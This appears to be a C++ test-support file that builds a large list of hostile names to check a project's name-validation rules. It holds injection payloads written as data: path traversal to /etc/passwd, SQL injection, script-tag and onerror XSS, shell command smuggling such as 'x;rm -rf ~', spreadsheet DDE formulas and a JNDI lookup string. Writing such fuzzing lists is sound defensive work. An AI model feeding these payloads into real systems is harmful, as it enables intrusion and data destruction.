// SPDX-FileCopyrightText: Stagekeeper developers
// SPDX-License-Identifier: Apache-2.0

#include "tests/support/hostilenames.h"

#include "model/domain/namerules.h"

using namespace Qt::StringLiterals;

namespace stagekeeper {

namespace {

QStringList paths()
{
    QStringList names{u"."_s, u".."_s, u"..."_s, u"/"_s, u"//"_s, u"~"_s, u"~root"_s, u"/etc/passwd"_s, u"/dev/zero"_s,
        u"C:"_s, u"C:\\Windows\\system32"_s, u"C:relative"_s, u"\\\\host\\share"_s, u"\\\\?\\C:\\x"_s,
        u"\\\\.\\pipe\\x"_s, u"file:///etc/passwd"_s, u"//host/share"_s, u"name:stream"_s, u"name::$DATA"_s,
        u"trailing."_s, u"trailing "_s, u" leading"_s, u".hidden"_s, u"-rf"_s, u"--help"_s, u"-"_s, u"--"_s, u"@file"_s,
        u"a/b"_s, u"a\\b"_s, u"./a"_s, u"a/./b"_s, u"a//b"_s, u"con.txt"_s, u"aux "_s, u"nul."_s, u"index.json"_s,
        u"metadata.json"_s, u".git/config"_s, u"registry.sqlite-journal"_s, u"%2e%2e%2f"_s, u"..%00"_s, u"..%c0%af"_s};
    for (const QString &up :
        {u"../"_s, u"..\\"_s, u"..//"_s, u"....//"_s, u"%2e%2e/"_s, u"..;/"_s, u"．．/"_s, u"..∕"_s}) {
        for (const int depth : {1, 3, 12})
            names.append(up.repeated(depth) + u"etc/passwd"_s);
    }
    for (const QString &device : {u"CON"_s, u"PRN"_s, u"AUX"_s, u"NUL"_s, u"CLOCK$"_s, u"CONIN$"_s, u"CONOUT$"_s,
             u"COM¹"_s, u"COM²"_s, u"LPT³"_s}) {
        for (const QString &shape : {u"%1"_s, u"%1.txt"_s, u"%1 "_s, u"a/%1"_s})
            names.append(shape.arg(device));
    }
    for (int i = 0; i <= 9; ++i)
        names << u"COM%1"_s.arg(i) << u"lpt%1.bin"_s.arg(i);
    return names;
}

// One character inside, before and after a word.
QStringList characters()
{
    QStringList names;
    QList<char32_t> codes;
    for (char32_t c = 0; c < 0x20; ++c)
        codes.append(c);
    codes << 0x7f << 0x80 << 0x85 << 0x9f << 0xa0 << 0xad << 0x34f << 0x61c << 0x115f << 0x1160 << 0x1680 << 0x180e;
    for (char32_t c = 0x2000; c <= 0x200f; ++c)
        codes.append(c);
    for (char32_t c = 0x2028; c <= 0x202f; ++c)
        codes.append(c);
    for (char32_t c = 0x205f; c <= 0x206f; ++c)
        codes.append(c);
    codes << 0x3000 << 0x3164 << 0xfe0f << 0xfeff << 0xffa0 << 0xfff9 << 0xfffb << 0xfffc << 0xfffd << 0xfffe << 0xffff
          << 0xe000 << 0xf8ff << 0xfdd0 << 0x1d173 << 0x1fffe << 0xe0001 << 0xe0041 << 0xe007f << 0x10ffff;
    for (const char32_t c : codes) {
        const QString character = QString::fromUcs4(&c, 1);
        names << u"mo"_s + character + u"del"_s << character + u"model"_s;
    }
    names << QString(QChar(0xd800)) << u"a"_s + QChar(0xdfff) << QString(QChar(0xdc00)) + QChar(0xd800);
    return names;
}

QStringList scripts()
{
    QStringList names{
        u"модель"_s,
        u"模型"_s,
        u"モデル"_s,
        u"모델"_s,
        u"नमूना"_s,
        u"நாதிரி"_s,
        u"نموذج"_s,
        u"דגם"_s,
        u"ตัวแบบ"_s,
        u"μοντέλο"_s,
        u"ƒ"_s,
        u"İstanbul"_s,
        u"ıI"_s,
        u"straße"_s,
        u"STRASSE"_s,
        u"ﬁnal"_s,
        u"Ⅷ"_s,
        u"①"_s,
        u"１２３"_s,
        u"１.０.０"_s,
        u"١.٢.٣"_s,
        u"𝟏.𝟎.𝟎"_s,
        u"𝔪𝔬𝔡𝔢𝔩"_s,
        u"ｍｏｄｅｌ"_s,
        u"café"_s,
        u"cafe\u0301"_s,
        u"\u212b"_s,
        u"\u00c5"_s,
        u"A\u030a"_s,
        u"가"_s,
        u"\u1100\u1161"_s,
        u"pаypal"_s,
        u"аpple"_s,
        u"Αlpha"_s,
        u"l1Il|"_s,
        u"O0Оо"_s,
        u"rn"_s,
        u"m"_s,
        u"ｖ1"_s,
        u"👍"_s,
        u"👍🏽"_s,
        u"👨‍👩‍👧‍👦"_s,
        u"🏳️‍🌈"_s,
        u"🇩🇪"_s,
        u"🇩"_s,
        u"☠️"_s,
        u"❤"_s,
        u"#️⃣"_s,
        u"﷽"_s,
        u"𒐫"_s,
        u"꧅"_s,
        u"\u202egnp.exe"_s,
        u"model\u202etxt.bin"_s,
        u"\u2066a\u2069\u202eb\u202c"_s,
        u"‮1.0.0‬"_s,
        u"אbגd"_s,
        u"(אב)"_s,
        u"1.0.0\u200b"_s,
        u"1\u2060.0.0"_s,
        u"1․0․0"_s,
        u"1。0。0"_s,
        u"Model"_s,
        u"MODEL"_s,
        u"model"_s,
    };
    names << u"Z"_s + QString(QChar(0x0310)).repeated(60) << u"Z"_s + QString(QChar(0x0489)).repeated(200)
          << QString(QChar(0x0301)) << u"\u0e49\u0e49\u0e49\u0e49"_s << QString(QChar(0x202e)).repeated(100) + u"x"_s;
    return names;
}

QStringList languages()
{
    QStringList names{
        // SQL
        u"'"_s,
        u"''"_s,
        u"\""_s,
        u"`"_s,
        u"'; DROP TABLE versions; --"_s,
        u"' OR '1'='1"_s,
        u"\" OR \"\"=\""_s,
        u"1; SELECT 1"_s,
        u"' UNION SELECT value FROM meta --"_s,
        u"x' || load_extension('x') || '"_s,
        u"%"_s,
        u"_"_s,
        u"%_%"_s,
        u"[a-z]*"_s,
        u"a\\%b"_s,
        u"NULL"_s,
        u"null"_s,
        u"rowid"_s,
        u"sqlite_schema"_s,
        u"?1"_s,
        u":name"_s,
        u"$x"_s,
        u"@x"_s,
        u"/* x */"_s,
        u"x'41'"_s,
        u"0x41"_s,
        u"1e309"_s,
        u"-0"_s,
        u"NaN"_s,
        u"Infinity"_s,
        u"true"_s,
        u"undefined"_s,
        u"\\"_s,
        u"\\'"_s,
        // markup
        u"<b>bold</b>"_s,
        u"<script>alert(1)</script>"_s,
        u"<img src=x onerror=alert(1)>"_s,
        u"<img src=file:///etc/passwd>"_s,
        u"<img src=\"\\\\host\\share\\a.png\">"_s,
        u"<a href='https://example.org'>x</a>"_s,
        u"<br>"_s,
        u"x<br/>y"_s,
        u"<!-- "_s,
        u"]]>"_s,
        u"<![CDATA["_s,
        u"<?xml version=\"1.0\"?>"_s,
        u"&amp;"_s,
        u"&lt;b&gt;"_s,
        u"&#x202e;"_s,
        u"&File"_s,
        u"a & b"_s,
        u"<table border=9999>"_s,
        u"<font size=200>"_s,
        u"<svg/onload=alert(1)>"_s,
        u"<h1>"_s,
        u"</html>"_s,
        u"javascript:alert(1)"_s,
        u"[x](javascript:alert(1))"_s,
        u"![x](file:///etc/passwd)"_s,
        u"| a | b |"_s,
        u"# heading"_s,
        u"```"_s,
        u"* item"_s,
        u"\\u0000"_s,
        u"a < b > c"_s,
        // shell
        u"$(touch x)"_s,
        u"`touch x`"_s,
        u"; touch x"_s,
        u"| touch x"_s,
        u"&& touch x"_s,
        u"> x"_s,
        u"< x"_s,
        u"$HOME"_s,
        u"${IFS}x"_s,
        u"%PATH%"_s,
        u"^&calc"_s,
        u"!history"_s,
        u"*"_s,
        u"?"_s,
        u"[!a]"_s,
        u"{a,b}"_s,
        u"~/x"_s,
        u"a b"_s,
        u"a  b"_s,
        u"'a' \"b\""_s,
        u"x;rm -rf ~"_s,
        u"-oProxyCommand=x"_s,
        u"--upload-pack=x"_s,
        u"() { :;}; x"_s,
        u"#"_s,
        u"a#b"_s,
        // spreadsheet formulas
        u"=1+1"_s,
        u"+1"_s,
        u"-1"_s,
        u"@SUM(A1)"_s,
        u"=cmd|' /C calc'!A0"_s,
        u"=HYPERLINK(\"http://example.org\")"_s,
        u"＝1+1"_s,
        u"＋1"_s,
        u"－1"_s,
        u"＠x"_s,
        u" =1+1"_s,
        u"'=1+1"_s,
        u"a,b"_s,
        u"a;b"_s,
        u"\"a\",\"b\""_s,
        u",,,,"_s,
        u"=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")"_s,
        u"%0A=1"_s,
        u"DDE(\"cmd\";\"/C calc\";\"x\")"_s,
        // DOT
        u"digraph"_s,
        u"a -> b"_s,
        u"];x ["_s,
        u"\"]; evil [label=\""_s,
        u"<<b>x</b>>"_s,
        u"<b>"_s,
        u"\\N\\G\\E\\T\\H\\L"_s,
        u"a\\nb"_s,
        u"a\\l"_s,
        u"{a|b}"_s,
        u"<port> a"_s,
        u"URL=\"http://example.org\""_s,
        u"\\\""_s,
        u"x\\"_s,
        // format strings
        u"%s"_s,
        u"%n"_s,
        u"%s%s%s%s%s%n"_s,
        u"%x%x%x"_s,
        u"%1"_s,
        u"%2 %1"_s,
        u"%99"_s,
        u"%L1"_s,
        u"%n %1"_s,
        u"{0}"_s,
        u"{}"_s,
        u"{{7*7}}"_s,
        u"${7*7}"_s,
        u"#{7*7}"_s,
        u"<%= 7*7 %>"_s,
        u"${jndi:ldap://example.org/a}"_s,
        u"%%"_s,
        u"%d"_s,
        // JSON, filters, references
        u"{\"a\":1}"_s,
        u"[]"_s,
        u"\":\""_s,
        u"__proto__"_s,
        u"constructor"_s,
        u"a:b"_s,
        u"a@b"_s,
        u":"_s,
        u"@"_s,
        u"a:"_s,
        u"@champion"_s,
        u"a:b@c:d"_s,
        u"metrics.x"_s,
        u"a.b.c"_s,
        u"a = 1 or b = 2"_s,
        u"not x"_s,
        u"in (1)"_s,
        u"is missing"_s,
        u"../a:1.0.0"_s,
        u"latest"_s,
        u"champion"_s,
        u"next-major"_s,
        u"timestamp"_s,
        u"git"_s,
        u"0"_s,
        u"00"_s,
        u"1"_s,
        u"-0.0"_s,
    };
    return names;
}

QStringList lengths()
{
    QStringList names;
    for (const int length : {254, 255, 256, 257, 1023, 1024, 4095, 4096, 4097, 10'000, 100'000})
        names << QString(length, u'x') << QString(length / 2, QChar(0x00e4)) << u"👍"_s.repeated(length / 4);
    names << QString(4096, u' ') << QString(300, u' ') + u"x"_s << u"a/"_s.repeated(2000) << u"<b>"_s.repeated(1000)
          << u"../"_s.repeated(1000) << u"(אב"_s.repeated(1000) << u"\u200b"_s.repeated(4000) << QString() << u" "_s
          << u"\u3000"_s;
    return names;
}

} // namespace

const QStringList &hostileNames()
{
    static const QStringList names = [] {
        QStringList all = paths() + characters() + scripts() + languages() + lengths();
        all.removeDuplicates();
        return all;
    }();
    return names;
}

QStringList acceptableHostileNames()
{
    QStringList names = hostileNames();
    names.removeIf([](const QString &name) { return !checkName(NameKind::Model, name); });
    return names;
}

} // namespace stagekeeper
